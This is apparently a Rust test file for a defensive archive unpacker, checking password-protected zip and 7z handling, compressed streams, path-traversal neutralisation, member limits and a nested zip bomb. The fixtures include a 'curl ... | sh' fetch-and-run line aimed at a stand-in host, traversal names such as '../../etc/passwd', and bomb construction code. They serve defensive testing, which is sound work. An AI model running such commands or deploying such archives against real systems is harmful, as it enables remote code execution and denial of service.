use std::io::Write;

use super::*;

fn pw() -> Vec<String> {
    vec!["wrong".to_owned(), "infected".to_owned()]
}

fn zip_of(entries: &[(&str, &[u8])], password: Option<&str>) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let o = zip::write::SimpleFileOptions::default();
        let o = match password {
            Some(p) => o.with_aes_encryption(zip::AesMode::Aes256, p),
            None => o,
        };
        w.start_file(*name, o).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn names(u: &Unpacked) -> Vec<&str> {
    u.members.iter().map(|m| m.name.as_str()).collect()
}

#[test]
fn zip_plain_zipcrypto_and_aes() {
    let plain = zip_of(&[("a.txt", b"hello"), ("dir/b.exe", b"MZ")], None);
    let u = unpack(&plain, "x.zip", &pw(), &UnpackLimits::default());
    assert_eq!(u.format, Some(Format::Zip));
    assert_eq!(names(&u), ["a.txt", "dir/b.exe"]);
    assert_eq!(u.members[0].data, b"hello");
    // ZipCrypto as Info-ZIP writes it (`zip -P`), AES-256 as the zip crate writes it.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("evil.exe"), b"MZ payload bytes").unwrap();
    let st = std::process::Command::new("zip")
        .current_dir(dir.path())
        .args(["-q", "-P", "infected", "zc.zip", "evil.exe"])
        .status()
        .expect("zip is needed (apt-get install zip)");
    assert!(st.success());
    let zipcrypto = std::fs::read(dir.path().join("zc.zip")).unwrap();
    let aes = zip_of(&[("evil.exe", b"MZ payload bytes")], Some("infected"));
    for (kind, z) in [("zipcrypto", zipcrypto), ("aes", aes)] {
        let aes = kind;
        let u = unpack(&z, "x.zip", &pw(), &UnpackLimits::default());
        assert_eq!(u.members.len(), 1, "aes={aes} {u:?}");
        assert_eq!(u.members[0].data, b"MZ payload bytes");
        assert_eq!(u.members[0].password.as_deref(), Some("infected"));
        let u = unpack(&z, "x.zip", &["nope".to_owned()], &UnpackLimits::default());
        assert!(u.members.is_empty());
        assert!(u.findings[0].contains("none of the passwords"), "{u:?}");
    }
}

#[test]
fn sevenz_with_encrypted_header() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("inner.js"), b"WScript.Echo(1)").unwrap();
    let out = sevenz_rust2::compress_encrypted(
        dir.path().join("inner.js"),
        Cursor::new(Vec::new()),
        sevenz_rust2::Password::from("infected"),
    )
    .unwrap()
    .into_inner();
    assert_eq!(format_of(&out), Some(Format::SevenZ));
    let u = unpack(&out, "a.7z", &pw(), &UnpackLimits::default());
    assert_eq!(names(&u), ["inner.js"], "{u:?}");
    assert_eq!(u.members[0].data, b"WScript.Echo(1)");
    assert_eq!(u.members[0].password.as_deref(), Some("infected"));
    let u = unpack(&out, "a.7z", &[], &UnpackLimits::default());
    assert!(u.members.is_empty());
    assert!(!u.findings.is_empty() || !u.errors.is_empty(), "{u:?}");
}

#[test]
fn single_stream_formats_and_tarballs() {
    let payload = b"#!/bin/sh\ncurl http://x.example.com/a | sh\n".repeat(10);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&payload).unwrap();
    let gz = gz.finish().unwrap();
    let u = unpack(&gz, "drop.sh.gz", &[], &UnpackLimits::default());
    assert_eq!(names(&u), ["drop.sh"]);
    assert_eq!(u.members[0].data, payload);

    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    bz.write_all(&payload).unwrap();
    let u = unpack(
        &bz.finish().unwrap(),
        "a.bz2",
        &[],
        &UnpackLimits::default(),
    );
    assert_eq!(u.format, Some(Format::Bzip2));
    assert_eq!(u.members[0].data, payload);

    // xz and zstd streams made by the reference tools.
    for (tool, ext, fmt) in [("xz", "xz", Format::Xz), ("zstd", "zst", Format::Zstd)] {
        let mut child = std::process::Command::new(tool)
            .args(["-c", "-q"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("{tool} is needed (apt-get install xz-utils zstd): {e}"));
        child.stdin.take().unwrap().write_all(&payload).unwrap();
        let out = child.wait_with_output().unwrap().stdout;
        let u = unpack(&out, &format!("a.sh.{ext}"), &[], &UnpackLimits::default());
        assert_eq!(u.format, Some(fmt));
        assert_eq!(names(&u), ["a.sh"], "{tool}: {u:?}");
        assert_eq!(u.members[0].data, payload);
    }

    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for name in ["bin/run", "lib/x.so"] {
        let mut h = tar::Header::new_gnu();
        h.set_size(payload.len() as u64);
        h.set_mode(0o755);
        h.set_cksum();
        b.append_data(&mut h, name, &payload[..]).unwrap();
    }
    let tgz = b.into_inner().unwrap().finish().unwrap();
    let u = unpack(&tgz, "x.tgz", &[], &UnpackLimits::default());
    assert_eq!(names(&u), ["bin/run", "lib/x.so"]);
}

#[test]
fn traversal_absolute_and_drive_names_are_neutralised() {
    let z = zip_of(
        &[
            ("../../etc/passwd", b"1"),
            ("/abs/path.sh", b"2"),
            ("C:\\Windows\\System32\\evil.dll", b"3"),
            ("a/./b/../c.txt", b"4"),
            ("..", b"5"),
        ],
        None,
    );
    let u = unpack(&z, "t.zip", &[], &UnpackLimits::default());
    assert_eq!(
        names(&u),
        [
            "etc/passwd",
            "abs/path.sh",
            "Windows/System32/evil.dll",
            "a/b/c.txt",
            "member"
        ]
    );
    assert!(
        u.members
            .iter()
            .all(|m| !m.name.starts_with('/') && !m.name.contains(".."))
    );
    assert_eq!(u.findings.len(), 5, "{:?}", u.findings);
    let long = format!("{}.exe", "a".repeat(1000));
    assert_eq!(safe_path(&long, 255).len(), 255);
    assert!(safe_path(&long, 255).ends_with(".exe"));
}

#[test]
fn ten_thousand_members_stop_at_the_member_limit() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let o =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..10_000 {
        w.start_file(format!("f{i}.txt"), o).unwrap();
        w.write_all(b"x").unwrap();
    }
    let z = w.finish().unwrap().into_inner();
    let u = unpack(&z, "many.zip", &[], &UnpackLimits::default());
    assert_eq!(u.members.len(), 1000);
    assert!(
        u.findings.iter().any(|f| f.contains("member count limit")),
        "{:?}",
        u.findings
    );
}

/// A 42.zip-style nested bomb: 8 × 8 × 8 copies of a 16 MiB zero file (8 GiB unpacked)
/// from a few hundred KiB. The limits stop it and the bytes produced stay under the cap.
#[test]
fn nested_zip_bomb_is_bounded() {
    let zeros = vec![0u8; 16 << 20];
    let deflate = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(false);
    let mut level = {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        w.start_file("zeros.bin", deflate).unwrap();
        w.write_all(&zeros).unwrap();
        w.finish().unwrap().into_inner()
    };
    for depth in 0..2 {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for i in 0..8 {
            w.start_file(format!("l{depth}_{i}.zip"), deflate).unwrap();
            w.write_all(&level).unwrap();
        }
        level = w.finish().unwrap().into_inner();
    }
    assert!(level.len() < 4 << 20, "bomb is small: {}", level.len());
    let limits = UnpackLimits {
        max_total: 64 << 20,
        max_ratio: 1_000_000,
        ..UnpackLimits::default()
    };
    let u = unpack(&level, "42.zip", &[], &limits);
    let total: usize = u.members.iter().map(|m| m.data.len()).sum();
    assert!(total as u64 <= limits.max_total, "{total}");
    assert!(
        u.findings
            .iter()
            .any(|f| f.contains("total unpacked size limit")),
        "{:?}",
        u.findings
    );
    // With the default ratio limit the 16 MiB zero files are refused outright.
    let u = unpack(&level, "42.zip", &[], &UnpackLimits::default());
    assert!(
        u.findings.iter().any(|f| f.contains("compression ratio")),
        "{:?}",
        u.findings
    );
    assert!(
        u.members
            .iter()
            .all(|m| m.data.len() < 1 << 20 || m.name.ends_with(".zip"))
    );
    // Depth limit.
    let shallow = UnpackLimits {
        max_depth: 1,
        ..limits.clone()
    };
    let u = unpack(&level, "42.zip", &[], &shallow);
    assert_eq!(u.members.len(), 8);
    assert!(
        u.findings.iter().any(|f| f.contains("nesting depth")),
        "{:?}",
        u.findings
    );
}

#[test]
fn damaged_archives_give_errors_not_panics() {
    let z = zip_of(&[("a.txt", &b"hello world ".repeat(1000)[..])], None);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&b"data ".repeat(1000)).unwrap();
    let gz = gz.finish().unwrap();
    for data in [&z, &gz] {
        for cut in (0..data.len()).step_by(97) {
            let _ = unpack(&data[..cut], "x", &pw(), &UnpackLimits::default());
        }
        let mut d = data.clone();
        for i in (10..d.len()).step_by(13) {
            d[i] ^= 0x5a;
        }
        let _ = unpack(&d, "x", &pw(), &UnpackLimits::default());
    }
    let u = unpack(&gz[..gz.len() / 2], "x.gz", &[], &UnpackLimits::default());
    assert!(!u.errors.is_empty(), "{u:?}");
    assert!(
        unpack(b"plain text", "a.txt", &[], &UnpackLimits::default())
            .format
            .is_none()
    );
}
